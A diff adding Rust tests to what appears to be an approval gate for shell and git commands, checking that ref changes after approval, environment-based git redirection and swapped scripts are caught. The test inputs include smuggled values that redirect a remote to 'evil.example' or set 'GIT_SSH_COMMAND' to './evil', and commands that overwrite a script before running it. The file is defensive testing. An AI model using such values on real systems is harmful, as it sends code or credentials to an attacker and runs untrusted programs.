@@ -624,3 +624,104 @@ fn what_is_found_in_the_projects_other_folders_is_bound() {
     }
     assert!(held_at_all >= 40, "{held_at_all}");
 }
+
+/// Whatever a ref points at may be what is pushed.
+#[test]
+fn a_push_is_for_what_each_ref_points_at() {
+    for (command, moves) in [
+        ("git push origin refs/custom/x:refs/heads/p", &["update-ref", "refs/custom/x", "other"] as &[&str]),
+        ("git push --mirror origin", &["update-ref", "refs/custom/y", "other"]),
+        ("git push origin 'refs/*:refs/*'", &["update-ref", "refs/custom/y", "other"]),
+        ("git push origin origin/foo:refs/heads/p", &["update-ref", "refs/remotes/origin/foo", "other"]),
+        ("git push origin ORIG_HEAD:refs/heads/p", &["update-ref", "ORIG_HEAD", "HEAD"]),
+        ("git push origin 'stash@{0}:refs/heads/p'", &["stash", "-q"]),
+        ("/usr/bin/git push origin main", &["update-ref", "refs/heads/main", "other"]),
+    ] {
+        let site = tainted();
+        let _host = site.serve();
+        let work = site.work();
+        git(&work, &["init", "-q", "-b", "main"]);
+        git(&work, &["config", "user.name", "a"]);
+        git(&work, &["config", "user.email", "a@b"]);
+        git(&work, &["remote", "add", "origin", "https://h.example/x.git"]);
+        for name in ["one", "two"] {
+            std::fs::write(work.join("file"), name).unwrap();
+            git(&work, &["add", "-A"]);
+            git(&work, &["commit", "-qm", name]);
+        }
+        git(&work, &["branch", "other"]);
+        git(&work, &["reset", "-q", "--hard", "HEAD~1"]);
+        git(&work, &["update-ref", "refs/custom/x", "HEAD"]);
+        git(&work, &["update-ref", "refs/remotes/origin/foo", "HEAD"]);
+        let running = site.check_later(command);
+        let id = site.held(command);
+        std::fs::write(work.join("file"), "changed").unwrap();
+        git(&work, moves);
+        site.cli(["approve", &id]).expect(0);
+        let output = running.join().unwrap();
+        assert!(output.code == Some(2) && output.stderr.contains("changed while"), "{command}: {output:?}");
+    }
+}
+
+/// What only the environment says of git is shown, and nothing that it may lead elsewhere is approved for later.
+#[test]
+fn settings_of_the_environment_are_shown_and_offer_nothing_for_later() {
+    let site = tainted();
+    let _host = site.serve();
+    let work = site.work();
+    git(&work, &["init", "-q", "-b", "main"]);
+    git(&work, &["remote", "add", "origin", "https://good.example/x.git"]);
+    let command = "git push origin main";
+    let of = |variables: &[(&str, &str)]| {
+        let running = ask_with(&site, command, variables);
+        let id = site.held(command);
+        let card = site.cli(["show", &id]).expect(0).stdout;
+        site.cli(["deny", &id]).expect(0);
+        running.join().unwrap().expect(2);
+        card
+    };
+    assert!(of(&[]).contains(" session"), "without any it is offered");
+    let elsewhere = of(&[
+        ("GIT_CONFIG_COUNT", "1"),
+        ("GIT_CONFIG_KEY_0", "url.https://evil.example/.insteadOf"),
+        ("GIT_CONFIG_VALUE_0", "https://good.example/"),
+    ]);
+    assert!(elsewhere.contains("evil.example"), "{elsewhere}");
+    for variables in [
+        &[("GIT_CONFIG_PARAMETERS", "'url.https://evil.example/.insteadOf=https://good.example/'")]
+            as &[(&str, &str)],
+        &[("GIT_SSH_COMMAND", "./evil")],
+        &[("GIT_CONFIG_COUNT", "1"), ("GIT_CONFIG_KEY_0", "core.sshCommand"), ("GIT_CONFIG_VALUE_0", "./evil")],
+        &[("GIT_CONFIG_GLOBAL", "/srv/evil")],
+    ] {
+        let card = of(variables);
+        assert!(!card.contains("session") && !card.contains("grant 30"), "{variables:?}: {card}");
+    }
+    assert!(!elsewhere.contains("session") && !elsewhere.contains("grant 30"), "{elsewhere}");
+}
+
+/// The card does not show one file where another one runs.
+#[test]
+fn a_file_that_is_replaced_before_it_runs_is_said_to_be() {
+    for (command, says) in [
+        ("git checkout -q other && sh run.sh; curl -s https://h.example", "`git checkout` may bring it first"),
+        ("git merge -q other; sh run.sh; curl -s https://h.example", "`git merge` may bring it first"),
+        ("cp p/evil run.sh; sh run.sh; curl -s https://h.example", "runs ANOTHER ONE"),
+        ("printf x > run.sh; sh run.sh; curl -s https://h.example", "runs ANOTHER ONE"),
+        ("mv p/evil run.sh; sh run.sh; curl -s https://h.example", "runs ANOTHER ONE"),
+    ] {
+        let site = tainted();
+        let _host = site.serve();
+        git(&site.work(), &["init", "-q", "-b", "main"]);
+        for file in ["run.sh", "p/evil"] {
+            program(&site.work().join(file), "echo hi\n");
+        }
+        let running = site.check_later(command);
+        let id = site.held(command);
+        let card = site.cli(["show", &id]).expect(0).stdout;
+        let joined: String = card.split_whitespace().collect::<Vec<_>>().join(" ");
+        assert!(joined.contains(says), "{command}: {card}");
+        site.cli(["deny", &id]).expect(0);
+        running.join().unwrap().expect(2);
+    }
+}
